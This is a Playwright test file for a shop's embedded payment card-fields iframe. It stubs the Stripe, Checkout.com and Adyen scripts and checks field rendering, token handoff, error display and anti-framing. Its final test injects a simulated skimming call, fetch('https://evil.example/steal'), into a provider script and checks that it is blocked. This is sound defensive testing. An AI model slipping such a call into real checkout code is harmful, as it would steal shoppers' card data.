import type { Browser, Page } from 'playwright-core';
import { launchChromium } from '../../../../test/support/chromium.js';
import { cardFieldsPage } from '../http/card-fields-page.js';

const SHOP = 'https://shop.example';

/** What Stripe's own script offers, as far as the page uses it: fields that are mounted, and a token for a number. */
const STRIPE_JS = `
window.Stripe = (key, { locale }) => ({
  elements: () => ({ create: (type) => ({
    mount: (at) => { const input = document.createElement('input'); input.dataset.type = type; input.dataset.key = key; input.lang = locale; document.querySelector(at).append(input); },
    on: () => undefined,
  }) }),
  createPaymentMethod: async () => {
    const number = document.querySelector('[data-type=cardNumber]').value;
    if (number === '') return { error: { code: 'incomplete_number', message: 'Die Kartennummer ist unvollständig.' } };
    const answer = await fetch('https://api.stripe.com/v1/payment_methods', { method: 'POST', body: number });
    return { paymentMethod: { id: await answer.text() } };
  },
});`;

/** Frames of Checkout.com: fields are drawn into elements of its classes. */
const FRAMES_JS = `
window.Frames = {
  Events: { FRAME_VALIDATION_CHANGED: 'frameValidationChanged' },
  init: ({ publicKey, localization }) => { for (const [name, type] of [['card-number', 'cardNumber'], ['expiry-date', 'expiry'], ['cvv', 'cvv']]) { const input = document.createElement('input'); Object.assign(input.dataset, { type, key: publicKey }); input.lang = localization; document.querySelector('.' + name + '-frame').append(input); } },
  addEventHandler: () => undefined, enableSubmitForm: () => undefined,
  isCardValid: () => document.querySelector('[data-type=cardNumber]').value !== '',
  submitCard: async () => ({ token: 'tok_' + document.querySelector('[data-type=cardNumber]').value }),
};`;

/** Adyen Web's custom card: fields are drawn into elements with its attribute, and tell what they have encrypted. */
const ADYEN_JS = `
window.AdyenWeb = {
  AdyenCheckout: async (settings) => settings,
  CustomCard: class {
    constructor(checkout, options) { this.checkout = checkout; this.options = options; }
    mount(at) {
      for (const place of document.querySelector(at).querySelectorAll('[data-cse]')) { const input = document.createElement('input'); Object.assign(input.dataset, { type: place.dataset.cse.replace('encryptedC', 'c'), key: this.checkout.clientKey }); place.append(input); }
      document.querySelector('[data-type=cardNumber]').addEventListener('input', (event) => this.options.onChange({ isValid: event.target.value !== '', data: { paymentMethod: { type: 'scheme', encryptedCardNumber: 'test_' + event.target.value } } }));
      return this;
    }
    showValidation() { this.options.onValidationError([{ fieldType: 'encryptedCardNumber', error: 'error', errorI18n: 'Die Kartennummer fehlt.' }]); }
  },
};`;

const PROVIDERS = {
  stripe: { key: 'pk_test_1', origin: 'https://js.stripe.com', script: STRIPE_JS, token: 'pm_4242', fault: 'Die Kartennummer ist unvollständig.' },
  checkout_com: { key: 'pk_sbox_1', origin: 'https://cdn.checkout.com', script: FRAMES_JS, token: 'tok_4242', fault: 'Bitte prüfen Sie Ihre Angaben.' },
  adyen: { key: 'test_1', origin: 'https://checkoutshopper-live.cdn.adyen.com', script: ADYEN_JS, token: `ady_${Buffer.from('{"type":"scheme","encryptedCardNumber":"test_4242"}').toString('base64url')}`, fault: 'Bitte prüfen Sie Ihre Angaben.' },
} as const;
type Provider = keyof typeof PROVIDERS;

const PARENT = `<!doctype html><title>shop</title><iframe src="/card-fields/PROVIDER?locale=de" width="400" height="100"></iframe>
<script>window.heard = []; addEventListener('message', (event) => heard.push({ origin: event.origin, ...event.data }));</script>`;

describe('the page of the card fields', () => {
  let browser: Browser;
  beforeAll(async () => void (browser = await launchChromium()), 60_000);
  afterAll(() => browser.close());

  /** Everything is answered here: nothing leaves the machine. */
  async function open(provider: Provider, parent = SHOP, script: string = PROVIDERS[provider].script): Promise<{ page: Page; asked: string[] }> {
    const page = await browser.newPage();
    const asked: string[] = [];
    await page.route('**/*', async (route) => {
      const url = new URL(route.request().url());
      asked.push(`${route.request().method()} ${url.origin}${url.pathname}`);
      if (url.pathname.startsWith('/card-fields/')) {
        const { html, headers } = cardFieldsPage({ provider, publishable_key: PROVIDERS[provider].key, parent_origin: SHOP }, url.searchParams);
        return route.fulfill({ body: html, headers });
      }
      if (url.origin === PROVIDERS[provider].origin) return route.fulfill({ body: script, contentType: 'text/javascript' });
      if (url.origin === 'https://api.stripe.com') return route.fulfill({ body: `pm_${route.request().postData()}`, headers: { 'access-control-allow-origin': '*' } });
      return route.fulfill({ body: PARENT.replace('/card-fields/PROVIDER', `${SHOP}/card-fields/${provider}`), contentType: 'text/html' });
    });
    await page.goto(`${parent}/checkout`);
    return { page, asked };
  }
  const heard = (page: Page, provider: Provider, type: string) => page.waitForFunction((wanted) => (window as never as { heard: { type: string }[] }).heard.find((message) => message.type === wanted), `hubcraft.${provider}.${type}`).then((found) => found.jsonValue());
  const submit = (page: Page, provider: Provider) => page.evaluate(([origin, type]) => document.querySelector('iframe')!.contentWindow!.postMessage({ type }, origin!), [SHOP, `hubcraft.${provider}.submit`]);

  describe.each(Object.keys(PROVIDERS) as Provider[])('of %s', (provider) => {
    it('draws the fields of the provider in the language of the player, and hands the token to the checkout', async () => {
      const { page, asked } = await open(provider);
      const fields = page.frameLocator('iframe');
      await fields.locator('[data-type=cardNumber]').fill('4242');
      expect(await fields.locator('label').allTextContents()).toEqual(['Kartennummer', 'Gültig bis', 'Prüfziffer']);
      expect(await fields.locator('[data-type=cardNumber]').getAttribute('data-key')).toBe(PROVIDERS[provider].key);
      expect(await heard(page, provider, 'height')).toMatchObject({ origin: SHOP, height: expect.any(Number) });
      await submit(page, provider);
      expect(await heard(page, provider, 'token')).toEqual({ origin: SHOP, type: `hubcraft.${provider}.token`, token: PROVIDERS[provider].token });
      // The number went to the provider alone.
      expect(asked.filter((each) => each.startsWith('POST'))).toEqual(provider === 'stripe' ? ['POST https://api.stripe.com/v1/payment_methods'] : []);
      await page.close();
    });

    it('says what is wrong at its field, and tells the checkout that there is no token', async () => {
      const { page } = await open(provider);
      await page.frameLocator('iframe').locator('[data-type=cardNumber]').waitFor();
      await submit(page, provider);
      await heard(page, provider, 'error');
      expect(await page.frameLocator('iframe').locator('#number-error').textContent()).toBe(PROVIDERS[provider].fault);
      await page.close();
    });
  });

  it('is embedded by no other site, and sends nothing anywhere else', async () => {
    const { page, asked } = await open('stripe', 'https://evil.example');
    await page.waitForTimeout(300);
    expect(await page.frames().at(-1)!.evaluate(() => document.querySelectorAll('[data-type]').length).catch(() => 0)).toBe(0);
    expect(asked).not.toContain('GET https://js.stripe.com/v3/');
    await page.close();
    const own = await open('stripe', SHOP, `${STRIPE_JS}; fetch('https://evil.example/steal').catch(() => (document.title = 'refused'));`);
    await own.page.frameLocator('iframe').locator('[data-type=cardNumber]').waitFor();
    await own.page.waitForTimeout(200);
    expect(own.asked.filter((each) => each.includes('evil'))).toEqual([]);
    await own.page.close();
  });
});
